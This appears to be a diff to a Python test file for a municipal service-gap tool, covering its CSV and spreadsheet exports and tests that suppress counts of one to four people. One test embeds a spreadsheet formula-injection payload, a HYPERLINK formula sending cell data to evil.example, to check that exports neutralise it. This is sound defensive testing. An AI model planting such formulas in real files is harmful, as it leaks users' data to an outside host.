@@ -15,10 +15,13 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
+from conciliare.accounts.imports.validation import FORMULA_PREFIXES
 from conciliare.api.needs_gaps import GapMunicipalitySerializer
 from conciliare.catalogue.categories import Category
-from conciliare.needs import exports, svgmap
-from conciliare.needs.gaps import GapAnalysis, GapCell, Place, Suggestion
+from conciliare.catalogue.tests.factories import make_offer, make_supplier
+from conciliare.core.disclosure import MIN_GROUP
+from conciliare.needs import exports, gaps, svgmap
+from conciliare.needs.gaps import GapAnalysis, GapCell, Place, Suggestion, disclosed_row
 
 from .test_gaps import Territory, make_territory, populated  # noqa: F401
 
@@ -62,11 +65,12 @@ def test_the_csv_has_a_row_per_municipality_with_the_figures_of_the_page(populat
     mine = {row[1]: row for row in rows[1:] if len(row) > 3 and row[3] == "Ambito di Prova"}
     assert mine["Bravo"] == [
         "Nursery (asilo nido)", "Bravo", "099002", "Ambito di Prova", "12", "6", "6", "Partly covered", "5.6",
-        "fewer than 5", "fewer than 5", "",
+        "fewer than 5", "fewer than 5", "fewer than 5", "",
     ]  # fmt: skip
+    assert rows[0][11] == "People signalling with no category"
     assert mine["Alfa"][4:7] == ["7", "6", "fewer than 5"]
     assert mine["Charlie"][4:9] == ["7", "0", "7", "Not covered", ""]
-    assert mine["Charlie"][11] == "Nido Alfa (13.3 km); Nido Delta (20.0 km)"
+    assert mine["Charlie"][12] == "Nido Alfa (13.3 km); Nido Delta (20.0 km)"
     assert mine["Delta"][4:8] == ["fewer than 5", "7", "", "Service within reach"]
     assert any("fewer than 5" in row[0] for row in rows if len(row) == 1)  # the notes at the bottom
 
@@ -105,9 +109,56 @@ def test_the_pdf_has_the_map_the_legend_and_the_table(populated, cast, client, l
     assert not re.search(r"people who need it: [1-4]\b", text)
 
 
+# --- Names a spreadsheet would run as formulas ------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_a_formula_in_a_suppliers_name_stays_text_in_both_exports(territory) -> None:
+    # Suppliers choose their names: this one is suggested for Charlie, where nothing is within reach.
+    evil = make_supplier(name=EVIL, municipality_name="Bravo", radius_km=3, categories=[Category.NURSERY])
+    make_offer(evil, category=Category.NURSERY, capacity=3)
+    analysis = gaps.gap_analysis([Category.NURSERY])
+    lines = [line for line in _csv(exports.gap_csv(analysis))[1:] if len(line) > 3]
+    texts = [value for line in lines for value in line]
+    charlie = next(line for line in lines if line[1] == "Charlie" and line[0] == "Nursery (asilo nido)")
+    assert charlie[12].startswith("'" + EVIL)
+    assert not [value for value in texts if value.startswith(FORMULA_PREFIXES)]
+    book = load_workbook(io.BytesIO(exports.gap_xlsx(analysis)))
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert not [cell.value for cell in cells if cell.value.startswith(FORMULA_PREFIXES)]
+    assert any(cell.value.startswith("'" + EVIL) for cell in cells)
+
+
+def test_every_formula_prefix_is_neutralised() -> None:
+    places = [Place(pk, f"0160{pk:02d}", f"Comune {pk}", "Val Cavallina", (45.0, 9.8)) for pk in range(8)]
+    names = [f"{prefix}1+1 Nido" for prefix in FORMULA_PREFIXES]
+    cells = [
+        GapCell(place, "nursery", 0, 0, False, 0, False, None, (Suggestion(name, Decimal("3.4")),), 0, 0)
+        for place, name in zip(places, names, strict=False)
+    ]
+    analysis = GapAnalysis(places, {"nursery": cells}, Decimal("10"))
+    with translation.override("en"):
+        lines = _csv(exports.gap_csv(analysis))[1 : len(cells) + 1]
+        book = load_workbook(io.BytesIO(exports.gap_xlsx(analysis)))
+    assert [line[12] for line in lines] == [f"'{name} (3.4 km)" for name in names]
+    sheet = list(book.worksheets[0].iter_rows(min_row=2, max_row=len(cells) + 1))
+    # (XML reads a carriage return back as a line feed.)
+    expected = [(f"'{name} (3.4 km)".replace("\r", "\n"), "s") for name in names]
+    assert [(row[12].value, row[12].data_type) for row in sheet] == expected
+
+
+def test_inert_leaves_other_values_alone() -> None:
+    assert exports.inert("Nido - Bello") == "Nido - Bello"
+    assert exports.inert("-3") == "'-3"
+    assert exports.inert(-3) == -3 and exports.inert(None) is None and exports.inert(Decimal("1.5")) == Decimal("1.5")
+
+
 # --- The group-size rule, over random territories ------------------------------------------------------------
 
 people = st.integers(min_value=0, max_value=40)
+few = st.integers(min_value=0, max_value=7)
 
 
 @st.composite
@@ -125,16 +176,20 @@ def analyses(draw: st.DrawFn) -> GapAnalysis:
             in_reach=draw(st.booleans()),
             nearest_km=draw(st.one_of(st.none(), st.decimals(min_value=0, max_value=60, places=1))),
             suggestions=(Suggestion("Nido", Decimal("3.4")),),
-            signals_supplier=draw(people),
-            signals_need=draw(people),
+            **signals(draw(few), draw(few), draw(few)),
+            signals_any=draw(people),
         )
         for place in places
     ]
-    signals = {(place.pk, "nursery"): draw(people) for place in places}
-    return GapAnalysis(places, {"nursery": cells}, signals, Decimal("10"))
+    return GapAnalysis(places, {"nursery": cells}, Decimal("10"))
 
 
-PEOPLE_COLUMNS = (4, 6, 9, 10)  # demand, gap and the two kinds of signal in cells() and the CSV
+def signals(supplier_only: int, need_only: int, both: int) -> dict[str, int]:
+    """The two kinds of a cell from who sent what: people of one kind only, of the other only, of both."""
+    return {"signals_supplier": supplier_only + both, "signals_need": need_only + both}
+
+
+PEOPLE_COLUMNS = (4, 6, 9, 10, 11)  # demand, gap, the two kinds of signal and the uncategorised in cells() and the CSV
 
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -152,14 +207,54 @@ def test_no_page_export_map_or_api_shows_one_to_four_people(analysis: GapAnalysi
         )
         for row in re.findall(r"<tr id=.*?</tr>", table, re.S):
             cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
-            assert not {cells[0], cells[2], cells[5], cells[6]} & SMALL, cells
+            assert not {cells[0], cells[2], cells[5], cells[6], cells[7]} & SMALL, cells
         boundaries = {
             place.pk: {"type": "Polygon", "coordinates": [[[9.8, 45], [9.9, 45], [9.9, 45.1], [9.8, 45]]]}
             for place in analysis.places
         }
         markup = str(svgmap.gap_svg(analysis, "nursery", boundaries))
-        assert not re.search(r"people (who need it|who sent a signal): [1-4][;<\"]", markup)
+        assert not re.search(r"(people who need it|supplier|unmet need|no category): [1-4][;<\"]", markup)
         assert not re.search(r">[1-4]</text>", markup)
         for item in GapMunicipalitySerializer(rows, many=True).data:
-            for field in ("demand", "gap", "signals_supplier_wanted", "signals_unmet_need"):
+            for field in ("demand", "gap", "signals_supplier_wanted", "signals_unmet_need", "signals_without_category"):
                 assert item[field] not in (1, 2, 3, 4), (field, item)
+        # No count of people of both kinds together, whose difference with a kind shown would be a hidden one:
+        # the signal figures of a row are the ones the table shows, nothing worked out from the hidden people.
+        for row in rows:
+            shown = {row.signals_supplier, row.signals_need} - {None}
+            assert row.signals in shown | {None}
+            assert (row.signals is None) is (not shown)
+            numbers = {int(n) for n in re.findall(r"(?:supplier|unmet need): (\d+)", gaps.describe(row))}
+            assert numbers <= shown, (numbers, shown)
+            # So no figure counts the people of both kinds together: no difference of two figures of a row is a
+            # part of a whole (the people of a hidden kind, of one kind only, of both). See also the next test.
+
+
+def test_no_hidden_group_of_signallers_can_be_worked_out_from_a_row() -> None:
+    """Every way of sending signals with up to 14 people of each kind: whatever a row shows, each group behind it
+    (one kind only, the other only, both, each kind, either) could still be empty or 5 or more."""
+    place = Place(1, "016001", "Comune", "Val Cavallina", (45.0, 9.8))
+    behind: dict[tuple[int | None, ...], list[tuple[int, int, int]]] = {}
+    span = range(0, 20)  # wider than the rows looked at below, so that all the ways behind them are here
+    for supplier_only in span:
+        for need_only in span:
+            for both in span:
+                cell = GapCell(
+                    place, "nursery", 0, 0, False, 0, False, None, (), **signals(supplier_only, need_only, both)
+                )
+                row = disclosed_row(cell)
+                seen = (row.signals_supplier, row.signals_need, row.signals)
+                behind.setdefault(seen, []).append((supplier_only, need_only, both))
+    for seen, ways in behind.items():
+        if max((figure for figure in seen if figure is not None), default=0) > 14:
+            continue
+        groups = {
+            "supplier only": {a for a, _b, _c in ways},
+            "need only": {b for _a, b, _c in ways},
+            "both": {c for _a, _b, c in ways},
+            "supplier": {a + c for a, _b, c in ways},
+            "need": {b + c for _a, b, c in ways},
+            "either": {a + b + c for a, b, c in ways},
+        }
+        for name, possible in groups.items():
+            assert possible & ({0} | set(range(MIN_GROUP, 100))), (seen, name, sorted(possible))
